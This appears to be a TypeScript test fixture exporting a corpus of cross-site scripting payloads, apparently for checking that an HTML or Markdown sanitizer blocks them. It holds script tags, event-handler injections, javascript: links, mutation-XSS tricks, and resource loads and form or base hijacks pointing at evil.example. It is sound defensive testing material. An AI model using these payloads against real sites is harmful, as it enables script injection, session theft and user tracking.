/* Hostile texts: each calls `xss` if any part of it is executed. */

const call = "xss(location.href)";

export const XSS_CORPUS: readonly string[] = [
  `<script>${call}</script>`,
  `<img src=x onerror="${call}">`,
  `<svg onload="${call}"><animate onbegin="${call}" attributeName=x dur=1s>`,
  `<a href="javascript:${call}">a link</a>`,
  `[a link](javascript:${call})`,
  `[a link](  JaVaScRiPt:${call})`,
  `![an image](x" onerror="${call})`,
  `![an image](https://evil.example/pixel.png)`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<form action="https://evil.example"><input type="image" src=x onerror="${call}"></form>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<details open ontoggle="${call}">x</details>`,
  `<style>@import "https://evil.example/x.css"; *{background:url(https://evil.example/y)}</style>`,
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<link rel="stylesheet" href="https://evil.example/z.css">`,
  `<div style="background:url(https://evil.example/w)">x</div>`,
  `\`\`\`html\n<img src=x onerror="${call}">\n\`\`\``,
  `\`\`\`"><img src=x onerror=${call}>\ncode\n\`\`\``,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `"><img src=x onerror=${call}><"`,
  `<template><script>${call}</script></template>`,
  `\u0000<scr\u0000ipt>${call}</scr\u0000ipt>`,
];
